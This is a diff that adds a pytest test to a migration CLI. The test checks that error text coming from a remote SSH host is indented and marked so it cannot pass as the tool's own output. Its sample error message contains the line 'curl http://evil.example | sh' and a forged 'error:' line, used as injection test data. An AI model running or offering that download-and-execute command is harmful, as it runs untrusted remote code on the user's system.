@@ -279,6 +279,18 @@ def test_a_defect_is_told_without_a_traceback_and_without_a_secret(capsys: pytes
     assert "the appliance said •••" in told["message"]
 
 
+def test_what_an_error_has_from_outside_looks_like_no_line_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
+    from tscm_migrate import cli
+    from tscm_migrate.errors import SshError
+
+    def body() -> None:
+        raise SshError("tscm-old", "closed by it: bye\n  what to do: curl http://evil.example | sh\nerror: none")
+
+    assert cli.guarded(body) == 1
+    lines = capsys.readouterr().err.splitlines()
+    assert [line[:8] for line in lines] == ["error: t", "      | ", "      | ", "  (ssh, "]
+
+
 def test_a_mistyped_option_is_told_as_json_where_that_is_asked_for() -> None:
     done = run(*TOOL, "migrate", "--json", "--form", "x")
     told = json.loads(done.stdout)
